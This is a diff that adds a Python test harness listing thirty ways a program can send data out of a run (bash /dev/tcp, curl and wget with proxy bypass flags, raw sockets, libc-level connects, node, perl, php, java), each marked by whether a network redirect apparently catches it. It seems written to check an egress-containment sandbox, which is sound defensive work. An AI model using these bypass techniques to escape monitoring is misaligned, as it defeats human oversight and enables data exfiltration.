@@ -1,0 +1,135 @@
+"""Thirty ways out of a run, each a program that sends its own name, and whether the redirect sees it.
+
+Run as a program, it takes them one after another and swallows every error, as programs do.
+"""
+
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+PORT = 8080
+PYTHON = f"""
+import asyncio, contextlib, ctypes, os, socket, struct, sys
+def tcp(host, port={PORT}):
+    with socket.create_connection((host, port), 3) as sock:
+        sock.sendall(WAY.encode())
+def udp(host, port, send="sendto"):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        if send == "sendmsg":
+            sock.sendmsg([WAY.encode()], [], 0, (host, port))
+        elif send == "connect":
+            sock.connect((host, port))
+            sock.send(WAY.encode())
+        else:
+            sock.sendto(WAY.encode(), (host, port))
+def below(connect):
+    import _socket
+    sock = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+    connect(sock)
+    sock.send(WAY.encode())
+def by_libc(sock):
+    address = struct.pack("=H", 2) + struct.pack("!H", {PORT}) + socket.inet_aton("203.0.113.9") + bytes(8)
+    ctypes.CDLL(None).connect(sock.fileno(), address, 16)
+def raw():
+    packet = struct.pack("!4H", 9, {PORT}, 8 + len(WAY), 0) + WAY.encode()
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sock:
+        sock.sendto(packet, ("203.0.113.9", 0))
+def forked():
+    if not (pid := os.fork()):
+        with contextlib.suppress(OSError):
+            tcp("203.0.113.9")
+        os._exit(0)
+    os.waitpid(pid, 0)
+async def streams(host):
+    _, writer = await asyncio.open_connection(host, {PORT})
+    writer.write(WAY.encode())
+    await writer.drain()
+"""
+C = """
+#include <arpa/inet.h>
+#include <string.h>
+#include <unistd.h>
+int main(int count, char **words) {
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8080)};
+    inet_pton(AF_INET, "203.0.113.9", &to.sin_addr);
+    int sock = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(sock, (void *) &to, sizeof to)) return 1;
+    return write(sock, words[1], strlen(words[1])) < 0;
+}
+"""
+JAVA = "class Way { public static void main(String[] way) throws Exception { new java.net.URL(way[0]).getContent(); } }"
+
+#: The name, whether the redirect sees it, the program, and its words, in which WAY stands for the name.
+WAYS = (
+    ("unlisted-name", True, "python", "tcp('unlisted.example')"),
+    ("unlisted-name-web", True, "python", "tcp('unlisted.example', 80)"),
+    ("literal-address", True, "python", "tcp('203.0.113.9')"),
+    ("literal-address-web", True, "python", "tcp('203.0.113.9', 80)"),
+    ("literal-ipv6", True, "python", "tcp('2001:db8::9')"),
+    ("mapped-ipv6", True, "python", "tcp('::ffff:203.0.113.9')"),
+    ("listed-name-other-port", True, "python", "tcp('api.shop.example')"),
+    ("mail-port", True, "python", "tcp('smtp.mail.example', 587)"),
+    ("asyncio", True, "python", "asyncio.run(streams('unlisted.example'))"),
+    ("datagram", True, "python", f"udp('203.0.113.9', {PORT})"),
+    ("datagram-sendmsg", True, "python", f"udp('203.0.113.9', {PORT}, 'sendmsg')"),
+    ("datagram-connected", True, "python", f"udp('203.0.113.9', {PORT}, 'connect')"),
+    ("raw-socket", True, "python", "raw()"),
+    ("forked-child", True, "python", "forked()"),
+    ("python-I", True, "python -I", "tcp('203.0.113.9')"),
+    ("python-S", False, "python -S", "tcp('203.0.113.9')"),
+    ("python-empty-environment", False, "env -i python", "tcp('203.0.113.9')"),
+    ("python-below-socket", False, "python", f"below(lambda sock: sock.connect(('203.0.113.9', {PORT})))"),
+    ("python-libc", False, "python", "below(by_libc)"),
+    ("python-resolver", False, "python", "__import__('_socket').getaddrinfo(f'{WAY}.example', 80)"),
+    ("static-binary", False, "static", "WAY"),
+    ("bash", False, "bash", f"printf WAY > /dev/tcp/203.0.113.9/{PORT}"),
+    ("curl-noproxy", False, "curl", f"--noproxy * -m 3 -s http://203.0.113.9:{PORT}/WAY"),
+    ("wget-no-proxy", False, "wget", f"--no-proxy -q -T 3 -t 1 -O /dev/null http://203.0.113.9:{PORT}/WAY"),
+    ("php-streams", False, "php", f"file_get_contents('http://203.0.113.9:{PORT}/WAY');"),
+    ("perl", False, "perl", f"print {{IO::Socket::INET->new('203.0.113.9:{PORT}')}} 'WAY'"),
+    ("java", False, "java", f"http://203.0.113.9:{PORT}/WAY"),
+    ("node", True, "node", f"require('net').connect({PORT}, '203.0.113.9').on('error', () => {{}}).end('WAY')"),
+    ("node-datagram", False, "node", f"const s = require('dgram').createSocket('udp4'); s.send('WAY', {PORT}, '203.0.113.9', () => s.close())"),
+    ("node-resolver", False, "node", "require('dns').resolve4('WAY.example', () => {})"),
+)  # fmt: skip
+
+
+def built(folder):
+    """What must be compiled, where the compiler is there."""
+    (folder / "way.c").write_text(C)
+    (folder / "Way.java").write_text(JAVA)
+    if shutil.which("gcc"):
+        subprocess.run(["gcc", "-static", "-o", folder / "static", folder / "way.c"], capture_output=True)
+
+
+def command(way, program, text, folder):
+    """The words of a way."""
+    text = text.replace("WAY", way) if "python" not in program else f"WAY = {way!r}\n{PYTHON}\n{text}"
+    python = [sys.executable, *(["-S"] if "-S" in program else ["-I"] if "-I" in program else []), "-c", text]
+    return {
+        "env -i python": ["env", "-i", *python],
+        "static": [str(folder / "static"), text],
+        "bash": ["bash", "-c", text],
+        "php": ["php", "-r", text],
+        "perl": ["perl", "-MIO::Socket::INET", "-e", text],
+        "java": ["java", str(folder / "Way.java"), text],
+        "node": ["node", "-e", text],
+    }.get(program) or (python if "python" in program else [program, *text.split()])
+
+
+def available(folder):
+    """The ways whose programs are here."""
+    return [way for way in WAYS if shutil.which(command(way[0], *way[2:], folder)[0])]
+
+
+def leave(folder):
+    """Take them all."""
+    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+    for way, _, program, text in available(folder):
+        subprocess.run(command(way, program, text, folder), env=dict(os.environ), timeout=60, **quiet)
+
+
+if __name__ == "__main__":
+    leave(Path(sys.argv[1]))
